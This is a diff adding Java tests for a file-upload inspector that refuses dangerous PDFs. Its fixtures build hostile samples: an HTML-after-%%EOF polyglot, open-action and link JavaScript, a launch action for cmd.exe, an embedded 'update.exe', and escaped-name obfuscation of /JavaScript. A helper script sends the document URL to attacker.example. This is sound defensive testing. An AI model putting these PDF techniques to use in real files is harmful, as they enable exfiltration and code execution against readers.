@@ -13,6 +13,24 @@ import java.util.Map;
 import java.util.zip.ZipEntry;
 import java.util.zip.ZipInputStream;
 import java.util.zip.ZipOutputStream;
+import org.apache.pdfbox.Loader;
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.pdmodel.PDDocumentInformation;
+import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
+import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
+import org.apache.pdfbox.pdmodel.common.PDRectangle;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
+import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
+import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionGoTo;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
+import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
+import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
+import org.apache.pdfbox.pdmodel.interactive.documentnavigation.destination.PDPageFitDestination;
+import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDDocumentOutline;
+import org.apache.pdfbox.pdmodel.interactive.documentnavigation.outline.PDOutlineItem;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
@@ -88,6 +106,184 @@ class UploadCorpusTest {
     polyglot.write(PDF);
     polyglot.write(zip(Map.of("evil.html", "<script>alert(1)</script>".getBytes())));
     assertThat(refusal("plan.pdf", polyglot.toByteArray())).isEqualTo("library.upload.polyglot");
+  }
+
+  @Test
+  void aPdfWithAnHtmlPageAfterItsEndIsRefused() throws IOException {
+    byte[] html =
+        "<html><body><script>alert(document.domain)</script></body></html>\n"
+            .getBytes(StandardCharsets.US_ASCII);
+    assertThat(refusal("plan.pdf", concat(PDF, html))).isEqualTo("library.upload.polyglot");
+    // A second end marker after the page does not make the page part of the PDF.
+    byte[] markedAgain = concat(PDF, html, "%%EOF\n".getBytes(StandardCharsets.US_ASCII));
+    assertThat(refusal("plan.pdf", markedAgain)).isEqualTo("library.upload.polyglot");
+  }
+
+  @Test
+  void aPdfEndingInLineEndsAndPaddingIsAccepted() throws IOException {
+    byte[] padded = concat(PDF, "\r\n  \n".getBytes(StandardCharsets.US_ASCII), new byte[512]);
+    assertThat(refusal("plan.pdf", padded)).isEqualTo("accepted");
+  }
+
+  @Test
+  void aPdfWithAnIncrementalUpdateIsAccepted() throws IOException, UploadRefused {
+    byte[] updated;
+    try (PDDocument pdf = Loader.loadPDF(PDF);
+        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+      PDDocumentInformation info = pdf.getDocumentInformation();
+      info.setTitle("Hurricane plan, reviewed");
+      info.getCOSObject().setNeedToBeUpdated(true);
+      pdf.getDocument().getTrailer().setNeedToBeUpdated(true);
+      pdf.saveIncremental(out);
+      updated = out.toByteArray();
+    }
+    String text = new String(updated, StandardCharsets.ISO_8859_1);
+    assertThat(text.split("%%EOF", -1)).as("two revisions, each with its end").hasSize(3);
+    assertThat(inspector.inspect("plan.pdf", updated).text()).contains("Evacuate the quay");
+  }
+
+  @Test
+  void aPdfRunningJavaScriptWhenOpenedIsRefused() throws IOException {
+    byte[] pdf = changed(PDF, doc -> doc.getDocumentCatalog().setOpenAction(script()));
+    // Saved with object streams: the action is compressed, no search of the bytes finds it.
+    assertThat(new String(pdf, StandardCharsets.ISO_8859_1)).doesNotContain("JavaScript");
+    assertThat(refusal("plan.pdf", pdf)).isEqualTo("library.upload.activeContent");
+  }
+
+  @Test
+  void aPdfWithJavaScriptInALinkOnAPageIsRefused() throws IOException {
+    byte[] pdf = changed(PDF, doc -> doc.getPage(0).getAnnotations().add(link(script())));
+    assertThat(refusal("plan.pdf", pdf)).isEqualTo("library.upload.activeContent");
+    PDActionURI javascriptLink = new PDActionURI();
+    javascriptLink.setURI("javascript:alert(1)");
+    byte[] linked = changed(PDF, doc -> doc.getPage(0).getAnnotations().add(link(javascriptLink)));
+    assertThat(refusal("plan.pdf", linked)).isEqualTo("library.upload.activeContent");
+  }
+
+  @Test
+  void aPdfLaunchingAProgramIsRefused() throws IOException {
+    PDActionLaunch launch = new PDActionLaunch();
+    launch.setFile(new PDSimpleFileSpecification(new org.apache.pdfbox.cos.COSString("cmd.exe")));
+    byte[] pdf = changed(PDF, doc -> doc.getPage(0).getAnnotations().add(link(launch)));
+    assertThat(refusal("plan.pdf", pdf)).isEqualTo("library.upload.activeContent");
+  }
+
+  @Test
+  void aPdfWithAnEmbeddedFileIsRefused() throws IOException {
+    byte[] pdf =
+        changed(
+            PDF,
+            doc -> {
+              PDEmbeddedFile payload =
+                  new PDEmbeddedFile(
+                      doc, new ByteArrayInputStream("MZ payload".getBytes(StandardCharsets.UTF_8)));
+              PDComplexFileSpecification attachment = new PDComplexFileSpecification();
+              attachment.setFile("update.exe");
+              attachment.setEmbeddedFile(payload);
+              PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
+              files.setNames(Map.of("update.exe", attachment));
+              PDDocumentNameDictionary names =
+                  new PDDocumentNameDictionary(doc.getDocumentCatalog());
+              names.setEmbeddedFiles(files);
+              doc.getDocumentCatalog().setNames(names);
+            });
+    assertThat(refusal("plan.pdf", pdf)).isEqualTo("library.upload.embeddedFile");
+  }
+
+  @Test
+  void aPdfWhoseScriptHidesBehindEscapedNamesIsRefused() {
+    String page = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>";
+    String pages = "<< /Type /Pages /Kids [3 0 R] /Count 1 >>";
+    byte[] clean = handWritten("<< /Type /Catalog /Pages 2 0 R >>", pages, page);
+    assertThat(refusal("clean.pdf", clean)).isEqualTo("accepted");
+    // /Open#41ction is /OpenAction, /J#61vaScript is /JavaScript and /J#53 is /JS once decoded.
+    byte[] hidden =
+        handWritten(
+            "<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>",
+            pages,
+            page,
+            "<< /Type /Action /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>");
+    assertThat(new String(hidden, StandardCharsets.US_ASCII)).doesNotContain("JavaScript");
+    assertThat(refusal("hidden.pdf", hidden)).isEqualTo("library.upload.activeContent");
+  }
+
+  @Test
+  void aPdfWithWebLinksAndBookmarksIsAccepted() throws IOException {
+    PDActionURI web = new PDActionURI();
+    web.setURI("https://www.oas.org/cip");
+    byte[] pdf =
+        changed(
+            PDF,
+            doc -> {
+              doc.getPage(0).getAnnotations().add(link(web));
+              PDDocumentOutline outline = new PDDocumentOutline();
+              PDOutlineItem item = new PDOutlineItem();
+              item.setTitle("Evacuation");
+              PDPageFitDestination destination = new PDPageFitDestination();
+              destination.setPage(doc.getPage(0));
+              item.setAction(goTo(destination));
+              outline.addLast(item);
+              doc.getDocumentCatalog().setDocumentOutline(outline);
+              doc.getDocumentCatalog().setOpenAction(destination);
+            });
+    assertThat(refusal("plan.pdf", pdf)).isEqualTo("accepted");
+  }
+
+  private static PDActionJavaScript script() {
+    return new PDActionJavaScript("app.launchURL('https://attacker.example/?' + this.URL);");
+  }
+
+  private static PDAnnotationLink link(PDAction action) {
+    PDAnnotationLink link = new PDAnnotationLink();
+    link.setRectangle(new PDRectangle(72, 700, 200, 20));
+    link.setAction(action);
+    return link;
+  }
+
+  private static PDActionGoTo goTo(PDPageFitDestination destination) {
+    PDActionGoTo goTo = new PDActionGoTo();
+    goTo.setDestination(destination);
+    return goTo;
+  }
+
+  interface PdfChange {
+    void apply(PDDocument pdf) throws IOException;
+  }
+
+  /** The PDF changed and saved again as PDFBox saves by default (with object streams). */
+  static byte[] changed(byte[] original, PdfChange change) throws IOException {
+    try (PDDocument pdf = Loader.loadPDF(original);
+        ByteArrayOutputStream out = new ByteArrayOutputStream()) {
+      change.apply(pdf);
+      pdf.save(out);
+      return out.toByteArray();
+    }
+  }
+
+  /** A PDF written by hand, objects numbered from 1 (the catalog), with a correct xref table. */
+  static byte[] handWritten(String... objects) {
+    StringBuilder pdf = new StringBuilder("%PDF-1.7\n");
+    List<Integer> offsets = new java.util.ArrayList<>();
+    for (int i = 0; i < objects.length; i++) {
+      offsets.add(pdf.length());
+      pdf.append(i + 1).append(" 0 obj\n").append(objects[i]).append("\nendobj\n");
+    }
+    int xref = pdf.length();
+    pdf.append("xref\n0 ").append(objects.length + 1).append("\n0000000000 65535 f\r\n");
+    for (int offset : offsets) {
+      pdf.append(String.format("%010d 00000 n\r\n", offset));
+    }
+    pdf.append("trailer\n<< /Size ").append(objects.length + 1).append(" /Root 1 0 R >>\n");
+    pdf.append("startxref\n").append(xref).append("\n%%EOF\n");
+    return pdf.toString().getBytes(StandardCharsets.US_ASCII);
+  }
+
+  static byte[] concat(byte[]... parts) throws IOException {
+    ByteArrayOutputStream out = new ByteArrayOutputStream();
+    for (byte[] part : parts) {
+      out.write(part);
+    }
+    return out.toByteArray();
   }
 
   @Test
